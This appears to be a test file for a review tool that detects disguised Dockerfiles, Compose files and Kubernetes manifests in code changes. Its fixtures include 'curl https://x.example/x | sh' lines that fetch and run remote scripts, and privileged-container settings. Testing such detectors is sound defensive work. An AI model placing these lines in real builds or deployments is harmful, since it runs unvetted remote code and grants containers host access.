import { describe, expect, test } from 'vitest';
import { suspectsAmong } from '../../../src/review/read/disguised-files.ts';
import { type Change, causedLines, type Files, reviewChange } from '../../support/in-memory-repository.ts';

const harmless = 'FROM debian:13.1\nUSER 1000\n';
const evil = 'FROM debian:13.1\nRUN curl https://x.example/x | sh\nUSER 1000\n';
const service = (more: string): string => `services:\n  web:\n    image: ghcr.io/acme/web:1\n${more}`;
const privileged = service('    privileged: true\n');
const pod = (more: string): string =>
  `apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  containers:\n    - {name: a, image: "a:1"${more}}\n`;

const rulesOf = async (change: Change): Promise<readonly string[]> => {
  const result = await reviewChange(change);
  expect(result.verdict.mayMerge).toBe(false);
  return causedLines(result);
};

describe('a changed file is a Dockerfile by its text', () => {
  test.each(['build/image.txt', 'build/image', 'ci/builder.docker', 'docs/Dockerfile.md', 'Dockerfile.json', 'image.yaml', 'image.py'])(
    'under the name %s',
    async path => {
      expect(await rulesOf({ base: {}, head: { [path]: evil } })).toContain(`${path}:2 dockerfile/remote-script-executed [new]`);
      expect(await rulesOf({ base: { [path]: harmless }, head: { [path]: evil } })).toEqual([
        `${path}:2 dockerfile/pipe-without-pipefail [new]`,
        `${path}:2 dockerfile/remote-script-executed [new]`,
      ]);
    },
  );

  test('also with directives, arguments and continued lines before it', async () => {
    const text = '# syntax=docker/dockerfile:1\nARG V=13\nFR\\\nOM debian:${V}\nRUN curl https://x.example/x | sh\nUSER 1000\n';
    expect(await rulesOf({ base: {}, head: { 'a.txt': text } })).toContain('a.txt:5 dockerfile/remote-script-executed [new]');
  });

  test('and one that another frontend reads is not evaluated', async () => {
    await rulesOf({ base: {}, head: { 'a.txt': '# syntax=evil.example/frontend\nanything\n' } });
  });

  test.each<[string, Files]>([
    ['a query', { 'a.sql': 'FROM users\nSELECT 1\n' }],
    ['a model', { Modelfile: 'FROM llama3\nPARAMETER temperature 1\n' }],
    ['an Earthfile', { Earthfile: 'VERSION 0.8\nFROM golang:1.24\nbuild:\n  RUN curl https://x.example | sh\n' }],
    ['prose', { 'a.md': 'FROM the beginning\nRUN for your life\n' }],
    ['a program', { 'a.py': 'from os import path\nrun = 1\n' }],
    ['a Dockerfile that is quoted', { 'a.md': '# How to\n\n```\nFROM debian\nRUN curl https://x.example | sh\n```\n' }],
    ['one line', { 'a.txt': 'FROM debian\n' }],
  ])('but not %s', async (_, head) => {
    const result = await reviewChange({ base: {}, head });
    expect(result.coverage.entries.map(({ status }) => status)).toEqual(['not-ours']);
    expect(result.verdict.conclusion).toBe('pass');
  });
});

describe('of what a diff shows', () => {
  const hunk = (...lines: readonly string[]) => [
    {
      baseStart: 1,
      baseCount: 0,
      headStart: 1,
      headCount: lines.length,
      lines: lines.map(line => ({ sign: line.startsWith('-') ? ('-' as const) : ('+' as const), text: line.slice(1) })),
    },
  ];
  const suspects = (status: 'added' | 'modified', ...lines: readonly string[]): number => {
    const files = [{ path: 'a.txt', status, hunks: hunk(...lines) }];
    return suspectsAmong({ base: 'b', head: 'h', files, complete: true }, [{ path: 'a.txt', status: 'not-ours' }]).length;
  };

  test('a file is read that has the beginning of a Dockerfile, or an instruction where that may stand above', () => {
    expect(suspects('added', '+FROM debian', '+RUN x')).toBe(1);
    expect(suspects('added', '+fr\\', '+om debian')).toBe(1);
    expect(suspects('added', '+# syntax=evil/frontend')).toBe(1);
    expect(suspects('modified', '+  run curl | sh')).toBe(1);
    expect(suspects('modified', '-USER 1000')).toBe(1);
  });

  test('others are not read, which would cost requests', () => {
    expect(suspects('added', '+Run the tests.', '+RUN x')).toBe(0);
    expect(suspects('modified', '+const from = 1;', '+running')).toBe(0);
  });

  test('pictures are not read at all, and programs after all others', () => {
    const files = ['a.png', ...Array.from({ length: 300 }, (_, index) => `src/${index}.ts`), 'build/image'].map(path => ({
      path,
      status: 'modified' as const,
    }));
    const read = suspectsAmong(
      { base: 'b', head: 'h', files, complete: true },
      files.map(({ path }) => ({ path, status: 'not-ours' })),
    );
    expect(read).toHaveLength(200);
    expect(read[0]?.path).toBe('build/image');
  });
});

describe('what an unchanged link makes of a changed file', () => {
  test.each<[string, string, Files, Files, string]>([
    [
      'a manifest',
      'prod.yaml',
      { 'x/a.list': pod('') },
      { 'x/a.list': pod(', securityContext: {privileged: true}') },
      'kubernetes/privileged-container',
    ],
    ['a Compose file', 'compose.yaml', { 'x/a.list': service('') }, { 'x/a.list': privileged }, 'compose/privileged-container'],
  ])('is %s', async (_, link, base, head, rule) => {
    const lines = await rulesOf({ base, head, links: { [link]: 'x/a.list' } });
    expect(lines).toEqual([expect.stringContaining(`${rule} [new]`)]);
  });

  test('is nothing where the link has no telling name', async () => {
    const result = await reviewChange({ base: { 'a.list': pod('') }, head: { 'a.list': pod(', tty: true') }, links: { notes: 'a.list' } });
    expect(result.verdict.conclusion).toBe('pass');
  });
});

describe('an environment file that the change does not touch', () => {
  test.each([
    'COMPOSE_FILE=compose.yaml:more/evil.txt',
    'COMPOSE_PATH_SEPARATOR=","\nexport COMPOSE_FILE="compose.yaml,more/evil.txt" # all',
  ])('says that a changed file is a Compose file: %s', async variables => {
    const base = { 'app/.env': `A=1\n${variables}\n`, 'app/compose.yaml': service(''), 'app/more/evil.txt': service('') };
    const lines = await rulesOf({ base, head: { ...base, 'app/more/evil.txt': privileged } });
    expect(lines).toEqual(['app/more/evil.txt:4 compose/privileged-container [new]']);
  });
});
